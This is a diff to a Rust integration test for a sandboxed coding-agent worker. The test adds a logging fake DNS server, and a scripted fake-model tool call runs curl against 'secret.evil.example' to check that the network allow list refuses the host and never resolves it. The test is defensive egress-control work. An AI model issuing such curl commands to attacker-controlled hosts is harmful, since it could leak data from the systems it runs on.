@@ -1,6 +1,7 @@
 //! The worker in a container of its own, as the compose file has it: it has the engine's socket and a network, and what it starts has
 //! neither, but a way out through the worker.
 
+use std::collections::BTreeSet;
 use std::os::unix::fs::MetadataExt;
 use std::path::{Path, PathBuf};
 
@@ -10,7 +11,7 @@ use tokio::io::copy_bidirectional;
 use tokio::net::{TcpListener, TcpStream};
 use tokio::process::Command;
 
-use crate::fake::model::Plan;
+use crate::fake::model::{Plan, Request};
 use crate::fake::site::Site;
 use crate::world::{IMAGE, Program, World};
 
@@ -20,7 +21,7 @@ const HOME: &str = "/var/lib/coding-agent";
 const EXECUTOR: &str = "/usr/local/bin/coding-agent-executor-static";
 
 /// The fakes say of themselves that they are at 127.0.0.1. In the worker's container that leads to them from the ports that are
-/// named, and then the program runs.
+/// named, notes every name that the worker asks for, and then runs the program.
 const WORKER: &str = r"
 import socket, subprocess, sys, threading
 
@@ -39,6 +40,21 @@ def serve(listener, port):
         for ends in ((near, far), (far, near)):
             threading.Thread(target=pump, args=ends, daemon=True).start()
 
+def answer_names(server):
+    while True:
+        query, sender = server.recvfrom(512)
+        name, place = [], 12
+        while query[place]:
+            name.append(query[place + 1 : place + 1 + query[place]].decode())
+            place += query[place] + 1
+        with open('asked-names', 'a') as asked:
+            asked.write('.'.join(name) + '\n')
+        # There is no such name.
+        server.sendto(query[:2] + b'\x81\x83' + query[4:6] + bytes(6) + query[12 : place + 5], sender)
+
+names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+names.bind(('127.0.0.1', 53))
+threading.Thread(target=answer_names, args=(names,), daemon=True).start()
 for port in map(int, sys.argv[1:]):
     listener = socket.create_server(('127.0.0.1', port))
     threading.Thread(target=serve, args=(listener, port), daemon=True).start()
@@ -88,6 +104,8 @@ fn worker(world: &World, ports: &[u16]) -> Command {
             "--init",
             "--add-host",
             "host.docker.internal:host-gateway",
+            "--dns",
+            "127.0.0.1",
         ])
         .args(["--user", &format!("{}:{}", folder.uid(), folder.gid())])
         .args(["--group-add", &socket.gid().to_string()])
@@ -120,7 +138,7 @@ async fn a_worker_in_a_container_lets_its_containers_out_to_what_is_named_and_no
     world.configure(|config| {
         config["command_executor"]["executor_path"] = json!(EXECUTOR);
         // A name that only the worker's container knows.
-        config["command_executor"]["network"] = json!({ "allow_private": [address] });
+        config["command_executor"]["network"] = json!({ "allow": ["named.example"], "allow_private": [address] });
     });
     let direct = format!(
         "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; getent hosts host.docker.internal; ls {SOCKET}; \
@@ -138,6 +156,10 @@ async fn a_worker_in_a_container_lets_its_containers_out_to_what_is_named_and_no
             COMMAND,
             json!({ "command": format!("curl -sS http://host.docker.internal:{}/", ports[1]) }),
         )
+        .calls(
+            COMMAND,
+            json!({ "command": "curl -sS http://secret.evil.example/; curl -sS https://secret.evil.example/; curl -sS http://named.example/" }),
+        )
         .calls(COMMAND, json!({ "command": direct }))
         .done("Asked.");
     world.github.open_issue("Ask around").label("coding agent");
@@ -152,16 +174,23 @@ async fn a_worker_in_a_container_lets_its_containers_out_to_what_is_named_and_no
         world.story()
     );
     let requests = world.model.requests();
-    let said: Vec<String> = requests[2..]
-        .iter()
-        .map(|request| request.last_user_message())
-        .collect();
+    let said: Vec<String> = requests[2..].iter().map(Request::last_user_message).collect();
     assert!(said[0].contains("hello from /named"), "{}", said[0]);
     let other_port = format!("host.docker.internal may be reached, but not its port {}", ports[1]);
     assert!(said[1].contains(&other_port), "{}", said[1]);
-    assert!(said[2].contains(r"lo\n") && !said[2].contains("eth"), "{}", said[2]);
-    assert!(said[2].contains("Network is unreachable"), "{}", said[2]);
-    assert!(said[2].contains("cannot access"), "{}", said[2]);
+    assert!(
+        said[2].matches("secret.evil.example is not among the hosts").count() >= 2,
+        "{}",
+        said[2]
+    );
+    assert!(said[2].contains("named.example could not be looked up"), "{}", said[2]);
+    // A name that is refused is not even looked up: who answers for it would hear what it says.
+    let names = std::fs::read_to_string(world.folder().join("asked-names")).unwrap();
+    let names: BTreeSet<&str> = names.lines().collect();
+    assert_eq!(names, BTreeSet::from(["named.example"]));
+    assert!(said[3].contains(r"lo\n") && !said[3].contains("eth"), "{}", said[3]);
+    assert!(said[3].contains("Network is unreachable"), "{}", said[3]);
+    assert!(said[3].contains("cannot access"), "{}", said[3]);
     assert_eq!(site.asked(), [format!("GET /named {address}")]);
     let state = Path::new(HOME).join("state");
     assert_eq!(World::containers_of(&state).await, [""; 0]);
